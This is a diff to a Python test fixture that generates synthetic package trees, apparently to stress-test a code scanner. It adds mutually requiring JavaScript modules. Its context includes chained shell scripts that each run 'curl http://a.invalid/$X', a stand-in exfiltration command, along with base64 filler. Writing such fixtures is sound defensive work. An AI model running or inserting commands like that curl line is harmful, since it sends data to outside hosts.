@@ -122,6 +122,13 @@ PACKAGES: dict[str, Callable[[], Tree]] = {
         **_page(""),
         **{f"f{n}.sh": Item(f"source f{n - 1}.sh\ncurl http://a.invalid/$X\n".encode()) for n in range(_many(1500))},
     },
+    "modules-that-need-each-other": lambda: {
+        **_page(""),
+        **{
+            f"m{n}.js": Item("".join(f"const a{k} = require('./m{k}');\n" for k in range(_many(300))).encode())
+            for n in range(_many(300))
+        },
+    },
     "base64": lambda: _file("a.txt", base64.b64encode(bytes(range(256)) * _many(3_000)).decode()),
     "lines-of-base64": lambda: _file(
         "a.txt", (base64.b64encode(b"nothing to see here, none at all").decode() + "\n") * _many(20_000)
